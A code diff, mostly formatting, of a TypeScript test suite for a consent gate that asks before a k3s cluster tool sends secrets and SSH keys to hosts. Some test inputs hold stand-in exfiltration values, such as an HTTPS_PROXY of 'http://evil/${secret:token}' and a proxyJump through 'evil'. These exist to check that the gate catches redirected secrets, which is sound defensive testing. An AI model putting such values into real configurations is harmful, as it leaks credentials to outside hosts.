@@ -4,7 +4,13 @@ import { ok } from '../../../src/core/base/result';
 import { parseDocument } from '../../../src/core/document/parse';
 import { normalise } from '../../../src/core/spec/normalise';
 import { questionLines } from '../../../src/engine/disclosureQuestion';
-import type { AgreementRecord, Agreements, DisclosureQuestion, SecretDoor, VouchedKey } from '../../../src/engine/ports';
+import type {
+  AgreementRecord,
+  Agreements,
+  DisclosureQuestion,
+  SecretDoor,
+  VouchedKey,
+} from '../../../src/engine/ports';
 import { createSecretDoor, type SecretDoorDependencies } from '../../../src/engine/secretDoor';
 
 const FILE = `apiVersion: k3s-ha/v1
@@ -48,7 +54,11 @@ function door(text = FILE, more: Partial<SecretDoorDependencies> = {}): SecretDo
     cluster: normalise(document.data),
     document,
     file: 'cluster.k3s.yaml',
-    source: { resolve: async (written) => ok(written.toUpperCase()), worked: async () => undefined, refused: () => undefined },
+    source: {
+      resolve: async (written) => ok(written.toUpperCase()),
+      worked: async () => undefined,
+      refused: () => undefined,
+    },
     agreements,
     sha256,
     ask: async (question) => {
@@ -68,7 +78,11 @@ describe('the door for secrets', () => {
   it('asks once for the whole file what goes where, from which line, and remembers the answer', async () => {
     answers = [true];
     const first = door();
-    expect(await Promise.all([first.admit(), first.resolve('${secret:token}'), first.admit()])).toEqual([ok(undefined), ok('${SECRET:TOKEN}'), ok(undefined)]);
+    expect(await Promise.all([first.admit(), first.resolve('${secret:token}'), first.admit()])).toEqual([
+      ok(undefined),
+      ok('${SECRET:TOKEN}'),
+      ok(undefined),
+    ]);
     expect(questions).toHaveLength(1);
     expect(asked().split('\n')).toEqual([
       'To server-1 (10.0.0.11), server-2 (10.0.0.12:2222), 10.0.1.1:',
@@ -86,7 +100,10 @@ describe('the door for secrets', () => {
 
   it('gives nothing after a refusal, and does not ask again in the same operation', async () => {
     const refused = door();
-    expect(await refused.resolve('x${env:EDGE_PASSWORD}')).toMatchObject({ ok: false, error: { code: 'secrets-not-agreed', details: expect.arrayContaining([expect.stringContaining('line 8')]) } });
+    expect(await refused.resolve('x${env:EDGE_PASSWORD}')).toMatchObject({
+      ok: false,
+      error: { code: 'secrets-not-agreed', details: expect.arrayContaining([expect.stringContaining('line 8')]) },
+    });
     expect((await refused.admit()).ok).toBe(false);
     expect(questions).toHaveLength(1);
     expect(record.given).toEqual([]);
@@ -97,18 +114,30 @@ describe('the door for secrets', () => {
   it.each([
     ['another host', FILE.replace('host: 10.0.0.12', 'host: 10.6.6.6'), '10.6.6.6'],
     ['another port', FILE.replace('2222', '2223'), '10.0.0.12:2223'],
-    ['another use', FILE.replace('name: edge }', 'name: edge }\nk3s: { install: { env: { HTTPS_PROXY: "http://evil/${secret:token}" } } }'), 'k3s.install.env.HTTPS_PROXY'],
+    [
+      'another use',
+      FILE.replace(
+        'name: edge }',
+        'name: edge }\nk3s: { install: { env: { HTTPS_PROXY: "http://evil/${secret:token}" } } }',
+      ),
+      'k3s.install.env.HTTPS_PROXY',
+    ],
     ['another text around it', FILE.replace('tcp(db:3306)', 'tcp(evil:3306)'), 'secret "db"'],
     ['another secret', FILE.replace('secret:token', 'secret:prod-token'), 'secret "prod-token"'],
     ['another key', FILE.replace('~/.ssh/edge', '~/.ssh/id_ed25519'), 'SSH key ~/.ssh/id_ed25519'],
-    ['a jump host that a key proves itself to', FILE.replace('identityFile:', 'proxyJump: evil\n  identityFile:'), 'through evil'],
+    [
+      'a jump host that a key proves itself to',
+      FILE.replace('identityFile:', 'proxyJump: evil\n  identityFile:'),
+      'through evil',
+    ],
   ])('asks again for %s, and only for that', async (_what, text, expected) => {
     answers = [true];
     await door().admit();
     expect((await door(text).admit()).ok).toBe(false);
     expect(questions).toHaveLength(2);
     expect(asked()).toContain(expected);
-    const goings = (question: DisclosureQuestion | undefined): number => question?.items.flatMap(({ to }) => to).length ?? 0;
+    const goings = (question: DisclosureQuestion | undefined): number =>
+      question?.items.flatMap(({ to }) => to).length ?? 0;
     expect(goings(questions[1])).toBeLessThan(goings(questions[0]));
   });
 
@@ -118,7 +147,10 @@ describe('the door for secrets', () => {
     expect(await door().meet(SERVER_1, 'SHA256:first')).toEqual(ok(undefined));
     expect(await door().meet(SERVER_1, 'SHA256:first')).toEqual(ok(undefined));
     expect(questions).toHaveLength(1);
-    expect(await door().meet(SERVER_1, 'SHA256:other')).toMatchObject({ ok: false, error: { code: 'secrets-not-agreed' } });
+    expect(await door().meet(SERVER_1, 'SHA256:other')).toMatchObject({
+      ok: false,
+      error: { code: 'secrets-not-agreed' },
+    });
     expect(asked()).toContain('it was SHA256:first and is SHA256:other');
     answers = [true];
     expect((await door().meet(SERVER_1, 'SHA256:other')).ok).toBe(true);
@@ -127,7 +159,12 @@ describe('the door for secrets', () => {
   });
 
   it('asks about host keys that only the file vouches for, together with the secrets', async () => {
-    const key: VouchedKey = { machine: SERVER_1, keyType: 'ssh-ed25519', fingerprint: 'SHA256:told', file: 'known_hosts' };
+    const key: VouchedKey = {
+      machine: SERVER_1,
+      keyType: 'ssh-ed25519',
+      fingerprint: 'SHA256:told',
+      file: 'known_hosts',
+    };
     const vouching = { vouchedKeys: async () => [key] };
     answers = [true];
     const first = door(FILE, vouching);
@@ -135,10 +172,16 @@ describe('the door for secrets', () => {
     await first.admit();
     expect(asked()).toContain('Host keys that only known_hosts vouches for');
     expect(asked()).toContain('server-1 (10.0.0.11)  ssh-ed25519 SHA256:told');
-    expect([first.isAgreedKey(SERVER_1, 'SHA256:told'), first.isAgreedKey(SERVER_1, 'SHA256:else'), first.isAgreedKey({ host: '10.0.0.12' }, 'SHA256:told')]).toEqual([true, false, false]);
+    expect([
+      first.isAgreedKey(SERVER_1, 'SHA256:told'),
+      first.isAgreedKey(SERVER_1, 'SHA256:else'),
+      first.isAgreedKey({ host: '10.0.0.12' }, 'SHA256:told'),
+    ]).toEqual([true, false, false]);
     await door(FILE, vouching).admit();
     expect(questions).toHaveLength(1);
-    expect((await door(FILE, { vouchedKeys: async () => [{ ...key, fingerprint: 'SHA256:new' }] }).admit()).ok).toBe(false);
+    expect((await door(FILE, { vouchedKeys: async () => [{ ...key, fingerprint: 'SHA256:new' }] }).admit()).ok).toBe(
+      false,
+    );
   });
 
   it('asks nothing for a file that gives nothing, and nothing for a passphrase, which stays here', async () => {
